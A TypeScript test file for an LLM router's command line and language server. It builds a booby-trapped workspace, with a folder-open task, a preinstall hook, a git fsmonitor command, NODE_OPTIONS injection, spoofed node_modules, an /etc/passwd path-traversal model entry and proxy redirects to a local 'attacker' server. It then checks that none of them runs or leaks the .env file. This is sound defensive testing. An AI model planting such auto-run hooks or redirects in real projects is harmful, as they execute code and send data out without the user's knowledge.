/**
 * The folder of a stranger: whatever it holds, the command line and the language server spend no more, send nowhere else,
 * run nothing of it and load no model of it. A port of the attacker's counts what reaches it.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { pathToFileURL } from 'node:url';
import { LLMock } from '@copilotkit/aimock';
import {
  createMessageConnection,
  StreamMessageReader,
  StreamMessageWriter,
} from 'vscode-languageserver/node';
import type { AnswerResultWire, ModelWire, StatusWire } from '../../server/src/protocol.ts';
import { ensureSmolLm2, repositoryRoot, testModelsDir } from '../support/localModel.ts';
import { CLOUD_TEXT, CLOUD_USAGE, TEST_KEY } from '../support/realApp.ts';
import { askOf } from './lspHarness.ts';

const folder = mkdtempSync(join(tmpdir(), 'router-hostile-'));
const workspace = join(folder, 'workspace');
const provider = new LLMock({ port: 0, chunkSize: 6 });
const reached: string[] = [];
const attacker = createServer((request, response) => {
  reached.push(`${request.method} ${request.url}`);
  response.end('{}');
});
const HARD = 'Design a lock-free queue and prove it correct, step by step.';

before(async () => {
  await ensureSmolLm2();
  await provider.start();
  provider.onMessage(/.*/s, { content: CLOUD_TEXT, usage: CLOUD_USAGE });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  const ran = join(folder, 'ran');
  const script = `require('node:fs').writeFileSync(${JSON.stringify(ran)}, ''); require('node:http').get(${JSON.stringify(url)});`;
  const registry = `defaults: { cheap: evil, escalation: evil-cloud, baseline: evil-cloud }
models:
  - id: evil
    provider: local
    file: ../../../../etc/passwd
  - id: evil-cloud
    provider: openai-compatible
    base_url: ${url}/v1
    api_model: evil
    key: none
`;
  const settings = {
    'costAwareRouter.openai.baseUrl': `${url}/v1`,
    'costAwareRouter.budget.monthlyUsd': 100_000,
    'costAwareRouter.models.ownFile': join(workspace, 'evil.gguf'),
    'costAwareRouter.dataDir': join(workspace, 'loot'),
    'http.proxy': url,
  };
  const tasks = {
    version: '2.0.0',
    tasks: [
      {
        label: 'x',
        type: 'shell',
        command: `node -e "${script.replaceAll('"', '\\"')}"`,
        runOptions: { runOn: 'folderOpen' },
      },
    ],
  };
  const files: Readonly<Record<string, string>> = {
    '.env': `OPENAI_API_KEY=sk-attacker\nOPENAI_BASE_URL=${url}/v1\nCOST_AWARE_ROUTER_MONTHLY_BUDGET_USD=none\nCOST_AWARE_ROUTER_REGISTRY=registry.yaml\nHTTPS_PROXY=${url}\nNODE_OPTIONS=--require ./evil.cjs\n`,
    '.env.local': `OPENAI_BASE_URL=${url}/v1\n`,
    'registry.yaml': registry,
    'models/registry.yaml': registry,
    'pricing.yaml': 'rows: []\n',
    'models/pricing.yaml': 'rows: []\n',
    'policy.yaml': 'max_monthly_usd: 100000\n',
    'evil.gguf': 'GGUF',
    'models/SmolLM2-135M-Instruct.Q4_1.gguf': 'GGUF',
    'evil.cjs': script,
    '.npmrc': `registry=${url}\nscript-shell=./evil.sh\n`,
    'package.json': JSON.stringify({
      name: 'evil',
      type: 'commonjs',
      main: 'evil.cjs',
      scripts: { preinstall: 'node evil.cjs' },
    }),
    'node_modules/openai/index.js': script,
    'node_modules/openai/package.json': '{"name":"openai","main":"index.js"}',
    'node_modules/zod/index.js': script,
    'node_modules/zod/package.json': '{"name":"zod","main":"index.js"}',
    '.vscode/settings.json': JSON.stringify(settings),
    '.vscode/tasks.json': JSON.stringify(tasks),
    '.vscode/launch.json': '{"configurations":[{"type":"node","program":"evil.cjs"}]}',
    'evil.code-workspace': JSON.stringify({ folders: [{ path: '.' }], settings }),
    '.git/config': `[core]\n\tfsmonitor = node evil.cjs\n\thooksPath = .\n\texcludesFile = /dev/null\n`,
    '.git/HEAD': 'ref: refs/heads/main\n',
    '.gitignore': '!.env\n',
    'src/a.ts': 'export const answer = 42;\n',
  };
  for (const [name, text] of Object.entries(files)) {
    const path = join(workspace, name);
    mkdirSync(join(path, '..'), { recursive: true });
    writeFileSync(path, text);
  }
});

after(async () => {
  attacker.closeAllConnections();
  attacker.close();
  await provider.stop();
  rmSync(folder, { recursive: true, force: true });
});

function assertUntouched(): void {
  assert.deepEqual(reached, [], 'nothing reached the port of the attacker');
  assert.ok(!existsSync(join(folder, 'ran')), 'nothing of the folder was run');
  assert.ok(!existsSync(join(workspace, 'loot')), 'nothing was written where the folder said');
}

async function cli(
  args: readonly string[],
): Promise<{ code: number | null; stdout: string; stderr: string }> {
  const env = {
    ...process.env,
    OPENAI_API_KEY: TEST_KEY,
    OPENAI_BASE_URL: `${provider.url}/v1`,
    COST_AWARE_ROUTER_THREADS: '1',
  };
  const program = join(repositoryRoot, 'server/src/cli/main.ts');
  const child = spawn(
    process.execPath,
    [program, '--data-dir', join(folder, 'cli'), '--models-dir', testModelsDir, ...args],
    {
      cwd: workspace,
      env,
      stdio: ['ignore', 'pipe', 'pipe'],
    },
  );
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (text) => {
    stdout += String(text);
  });
  child.stderr.on('data', (text) => {
    stderr += String(text);
  });
  const [code] = (await once(child, 'close')) as [number | null];
  return { code, stdout, stderr };
}

test('the command line, started inside it, knows nothing of it', async () => {
  const answered = await cli(['ask', HARD, '--force', 'openai', '--file', 'src/a.ts', '--json']);
  assert.equal(answered.code, 0, answered.stderr);
  assert.equal(JSON.parse(answered.stdout).text, CLOUD_TEXT, 'answered by the address of the user');
  const spend = JSON.parse((await cli(['spend', '--json'])).stdout);
  assert.equal(spend.budget_usd, 20);
  assert.doesNotMatch(JSON.stringify(spend), /evil/);
  const secret = await cli(['ask', HARD, '--force', 'openai', '--file', '.env', '--json']);
  assert.match(
    secret.stdout,
    /privacy_floor/,
    'and its .env does not leave, whatever its .gitignore says',
  );
  assertUntouched();
});

for (const trusted of [false, true]) {
  test(`an editor that opens it ${trusted ? 'trusted' : 'without trust'}: its sections can only tighten`, async () => {
    const child = spawn(
      process.execPath,
      [join(repositoryRoot, 'server/src/lsp/main.ts'), '--stdio'],
      {
        cwd: workspace,
        stdio: ['pipe', 'pipe', 'ignore'],
      },
    );
    const connection = createMessageConnection(
      new StreamMessageReader(child.stdout),
      new StreamMessageWriter(child.stdin),
    );
    // VS Code merges only what the manifest lets a workspace set; the folder's own sections come as they stand.
    connection.onRequest(
      'workspace/configuration',
      ({ items }: { items: { section: string; scopeUri?: string }[] }) =>
        items.map(({ section, scopeUri }) => {
          if (scopeUri === undefined)
            return { threads: 1, openai: { baseUrl: `${provider.url}/v1` } };
          return section.endsWith('Budget')
            ? { monthlyUsd: 100_000, openai: { baseUrl: 'http://127.0.0.1:1' } }
            : { exclude: ['*.mine'], remove: ['.env'] };
        }),
    );
    connection.listen();
    try {
      await connection.sendRequest('initialize', {
        processId: process.pid,
        rootUri: pathToFileURL(workspace).href,
        workspaceFolders: [{ uri: pathToFileURL(workspace).href, name: 'workspace' }],
        capabilities: { workspace: { configuration: true } },
        initializationOptions: {
          dataDir: join(folder, `lsp-${trusted}`),
          modelsDir: testModelsDir,
        },
      });
      await connection.sendNotification('initialized', {});
      await connection.sendRequest('costAwareRouter/setKey', {
        key: TEST_KEY,
        baseUrl: `${provider.url}/v1`,
      });
      const before = provider.getRequests().length;
      const ask = askOf(HARD, { destination: 'cloud', trusted });
      const result = await connection.sendRequest<AnswerResultWire>('costAwareRouter/answer', ask);
      assert.equal(result.kind === 'answered', trusted, JSON.stringify(result));
      assert.equal(provider.getRequests().length - before, trusted ? 1 : 0);
      for (const name of ['.env', 'notes.mine']) {
        const uri = pathToFileURL(join(workspace, name)).href;
        const context = [{ kind: 'file', text: 'x', path: name, uri } as const];
        const kept = await connection.sendRequest<AnswerResultWire>(
          'costAwareRouter/answer',
          askOf(HARD, { destination: 'cloud', trusted, context }),
        );
        assert.equal(kept.kind === 'failed' && kept.code, 'privacy_floor', name);
      }
      const status = await connection.sendRequest<StatusWire>('costAwareRouter/status', null);
      assert.match(status.budgets.join(), /of \$20 /);
      const models = await connection.sendRequest<readonly ModelWire[]>(
        'costAwareRouter/models',
        null,
      );
      assert.doesNotMatch(JSON.stringify(models), /evil/);
      assertUntouched();
    } finally {
      connection.dispose();
      child.kill('SIGKILL');
      await once(child, 'close');
    }
  });
}
